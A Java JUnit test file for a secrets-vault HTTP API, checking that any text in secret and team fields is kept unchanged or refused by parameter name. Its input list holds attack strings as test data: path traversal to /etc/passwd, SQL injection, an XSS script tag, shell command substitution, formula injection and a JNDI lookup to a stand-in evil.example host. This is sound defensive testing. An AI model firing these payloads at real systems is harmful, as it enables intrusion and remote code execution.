package io.strongroom.vault.http;

import static org.assertj.core.api.Assertions.assertThat;

import com.google.gson.JsonObject;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.HexFormat;
import java.util.List;
import java.util.stream.Collectors;

/// Any text in any field is kept as it is, or refused under its parameter's name; none is trimmed,
/// folded, unescaped or taken for something else than text.
class TextTest extends VaultApiCase {

    private static final String BLANK = " \t\r\n";

    static final List<String> TEXTS =
            List.of(
                    " ",
                    BLANK,
                    "  both ends  ",
                    "\n",
                    "\r\n",
                    "\r",
                    "\t",
                    "\u0000",
                    "a\u0000b",
                    "\u0001\u001F\u007F\u0085",
                    "\u2028\u2029",
                    "\u202Egnp.exe",
                    "\u2066isolated\u2069",
                    "\u00E9",
                    "e\u0301",
                    "\u212B \u00C5",
                    "\uFB01 \uFF21",
                    "\u200B\u200D",
                    "\uFEFF",
                    "\u0410PI_KEY",
                    "\uFFFD\uFFFE\uFFFF",
                    KEY_EMOJI,
                    "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
                    "\uDBFF\uDFFF",
                    "..",
                    "../../etc/passwd",
                    "/",
                    "\\\\server\\share",
                    "%2e%2e%00",
                    "+",
                    "a&teamId=b#c?d",
                    "'",
                    "\"",
                    "\\",
                    "\\u0041\\n",
                    "'; DROP TABLE secret; --",
                    "=1+1",
                    "@SUM(A1)",
                    "-1",
                    "<script>alert(1)</script>",
                    "${jndi:ldap://evil.example/a}",
                    "$(id) `id`",
                    "%s%n{}",
                    "null",
                    "true",
                    "1e999",
                    "{\"name\": \"A\"}",
                    "x".repeat(500),
                    "\u00E9".repeat(500));

    @ParameterizedTest
    @FieldSource("TEXTS")
    void valueAndDescriptionAreKeptAsTheyCame(String text) throws Exception {
        String id = idOf(post(secret("A", text, text)));

        assertThat(data(get(SECRETS + id)).get("description").getAsString()).isEqualTo(text);
        assertThat(data(get(SECRETS + id + "/value")).get("value").getAsString()).isEqualTo(text);
    }

    @ParameterizedTest
    @FieldSource("TEXTS")
    void escapedTextIsTheSameText(String text) throws Exception {
        String body =
                "{\"name\":\"A\",\"value\":\"%s\",\"description\":\"%s\"}"
                        .formatted(escaped(text), escaped(text));

        String id = idOf(send("POST", SECRETS, body));

        assertThat(data(get(SECRETS + id)).get("description").getAsString()).isEqualTo(text);
        assertThat(data(get(SECRETS + id + "/value")).get("value").getAsString()).isEqualTo(text);
    }

    @ParameterizedTest
    @FieldSource("TEXTS")
    void noneOfThemIsAName(String text) throws Exception {
        assertThat(refused(post(secret(text, "v", null)))).containsExactly("name");
        assertThat(refused(post(secret("A" + text, "v", null)))).containsExactly("name");
    }

    @ParameterizedTest
    @FieldSource("TEXTS")
    void teamIsCalledWhatItsMakerCallsItUnlessThatIsBlankOrLong(String text) throws Exception {
        JsonObject body = new JsonObject();
        body.addProperty("name", text);

        VaultReply reply = send("POST", "/api/v1/teams", body.toString());

        if (text.isBlank() || text.length() > 255) {
            assertThat(refused(reply)).containsExactly("name");
        } else {
            assertThat(data(reply).get("name").getAsString()).isEqualTo(text);
            assertThat(names(json(get("/api/v1/user/teams")))).containsExactly(text);
        }
    }

    @ParameterizedTest
    @FieldSource("TEXTS")
    void noneOfThemIsATeamOfTheCallersOrASecret(String text) throws Exception {
        String encoded = URLEncoder.encode(text, StandardCharsets.UTF_8);
        JsonObject body = secret("A", "v", null);
        body.addProperty("teamId", text);

        VaultReply created = post(body);
        VaultReply listed = get(SECRETS + "?teamId=" + encoded);

        if (text.isBlank()) {
            assertThat(refused(created)).containsExactly("teamId");
            assertThat(refused(listed)).containsExactly("teamId");
        } else {
            assertThat(created.status()).isEqualTo(403);
            assertThat(listed.status()).isEqualTo(403);
        }
        String one = SECRETS + encoded.replace("+", "%20");
        assertThat(get(one).status()).isEqualTo(404);
        assertThat(send("DELETE", one, "").status()).isEqualTo(404);
    }

    @Test
    void valueMayFillTheWholeBody() throws Exception {
        int frame = secret("A", "", null).toString().length();
        String value = "v".repeat(VaultApi.MAX_BODY - frame);

        String id = idOf(post(secret("A", value, null)));

        assertThat(data(get(SECRETS + id + "/value")).get("value").getAsString()).isEqualTo(value);
        assertThat(post(secret("B", value + "v", null)).status()).isEqualTo(413);
    }

    private static String escaped(String text) {
        return text.chars()
                .mapToObj(unit -> "\\u" + HexFormat.of().toHexDigits((char) unit))
                .collect(Collectors.joining());
    }
}
